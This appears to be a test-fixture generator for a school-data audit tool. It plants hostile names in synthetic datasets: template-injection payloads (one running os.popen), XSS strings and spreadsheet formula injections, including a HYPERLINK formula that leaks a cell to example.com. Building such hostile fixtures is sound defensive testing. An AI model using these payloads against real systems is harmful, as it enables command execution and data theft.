"""Write this folder's hostile files from the bundled synthetic sample: school, trust, LA and catchment
names that are template code, script, HTML or spreadsheet formulas. Run it again after changing a name:
    python tests/hostile/outputs/make_cases.py"""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent
SAMPLE = HERE.parents[2] / "repaudit" / "sample_data"

# Audited schools of the sample (URN -> hostile name); the planted ones first, so they top every ranking.
SCHOOL_NAMES = {
    "990010": "{{ 7*7 }} Primary",
    "990015": "{% if 1 %}x{% endif %} Vale",
    "990003": "{{ self.__init__.__globals__ }}",
    "990001": "{{ cycler.__init__.__globals__.os.popen('touch TEMPLATE_RAN').read() }}",
    "990020": "</script><script>alert(1)</script>",
    "990011": "<img src=x onerror=alert(1)>",
    "990012": '=HYPERLINK("http://example.com/?leak="&A2,"x")',
    "990021": "+1+2 Primary",
    "990022": "-3+4 Primary",
    "990024": "@SUM(1,1) Primary",
    "990025": "\tTab Primary",
}
TRUST_NAMES = {
    "Northfield Learning Trust (synthetic)": "{{ 7*7 }} Learning Trust",
    "Riverside Academies Trust (synthetic)": "=1+1 Academies Trust",
}
LA_NAME = "{{ 6*7 }} <b>Shire</b>"
POLICY_NAME = "{{ 7*7 }} <img src=x onerror=alert(1)> policy"
CATCHMENT_NAMES = {"990003": "{{ 7*7 }} catchment </script><img src=x onerror=alert(1)>"}
CONTROL_NAMES = {"990010": "Vt\x0bEsc\x1b Primary"}        # NUL makes the reader call the file binary
# The GIAS columns repaudit reads (the file stays a few kB).
COLUMNS = ["URN", "EstablishmentName", "LA (code)", "LA (name)", "DistrictAdministrative (code)", "GOR (name)",
           "TypeOfEstablishment (name)", "EstablishmentTypeGroup (name)", "EstablishmentStatus (name)",
           "PhaseOfEducation (name)", "AdmissionsPolicy (name)", "ReligiousCharacter (name)", "LSOA (code)",
           "Trusts (code)", "Trusts (name)", "NumberOfPupils", "PercentageFSM", "SchoolCapacity", "Easting",
           "Northing", "OpenDate", "CloseDate"]


def _read_gias() -> tuple[str, list[list[str]]]:
    raw = (SAMPLE / "synthetic_edubasealldata20240901.csv").read_bytes()
    for encoding in ("utf-8", "cp1252"):
        try:
            text = raw.decode(encoding)
            break
        except UnicodeDecodeError:
            continue
    return encoding, list(csv.reader(io.StringIO(text, newline="")))


def write_gias(path: Path, schools: dict, trusts: dict, la_name: str | None) -> None:
    encoding, rows = _read_gias()
    header = rows[0]
    urn, name, trust, la = (header.index(c) for c in ("URN", "EstablishmentName", "Trusts (name)", "LA (name)"))
    for row in rows[1:]:
        row[name] = schools.get(row[urn], row[name])
        row[trust] = trusts.get(row[trust], row[trust])
        if la_name is not None:
            row[la] = la_name
    keep = [header.index(c) for c in COLUMNS]
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows([[r[k] for k in keep] for r in rows])
    path.write_bytes(out.getvalue().encode(encoding))


def write_catchments(path: Path) -> None:
    data = json.loads((SAMPLE / "synthetic_secondary_catchments.geojson").read_text(encoding="utf-8"))
    for feature in data["features"]:
        props = feature["properties"]
        props["catchment"] = CATCHMENT_NAMES.get(str(props["URN"]), props["catchment"])
    path.write_text(json.dumps(data), encoding="utf-8")


def write_simulation(capacities: Path, applications: Path) -> None:
    """A capacities file naming one school per hostile name, and 40 applicants listing three of them each."""
    names = list(SCHOOL_NAMES.values())
    with open(capacities, "w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(["urn", "pan", "name", "easting", "northing", "type"])
        for k, name in enumerate(names):
            out.writerow([100001 + k, 4, name, 530000 + 1000 * k, 105000, "Community school"])
    with open(applications, "w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(["applicant_id", "easting", "northing", "fsm", "looked_after", "pref1", "pref2", "pref3"])
        for a in range(40):
            first = a % len(names)
            prefs = [100001 + (first + d) % len(names) for d in range(3)]
            out.writerow([f"a{a}", 530000 + 250 * a, 105500, int(a % 4 == 0), 0, *prefs])


def write_policy(path: Path) -> None:
    """The fsm-quota preset under a hostile name (the simulator's map shows it in its title)."""
    text = (SAMPLE.parent / "policies" / "fsm-quota.toml").read_text(encoding="utf-8")
    path.write_text(text.replace('name = "fsm-quota"', f'name = "{POLICY_NAME}"'), encoding="utf-8")


def write_formula_urns(path: Path) -> None:
    """A cin-schools file whose bad URNs look like formulas: rejected, and quoted in the rejects CSV."""
    path.write_text("urn,year,cin\n=1+1,2023,5\n@SUM(1),2023,7\n-2+3,2023,4\n990001,2023,6\n", encoding="utf-8")


def main() -> None:
    write_gias(HERE / "gias_hostile_names.csv", SCHOOL_NAMES, TRUST_NAMES, LA_NAME)
    write_simulation(HERE / "capacities_hostile_names.csv", HERE / "applications.csv")
    write_policy(HERE / "policy_hostile_name.toml")
    write_formula_urns(HERE / "cin_formula_urns.csv")
    write_gias(HERE / "gias_control_characters.csv", CONTROL_NAMES, {}, None)
    write_catchments(HERE / "catchments_hostile_names.geojson")


if __name__ == "__main__":
    main()
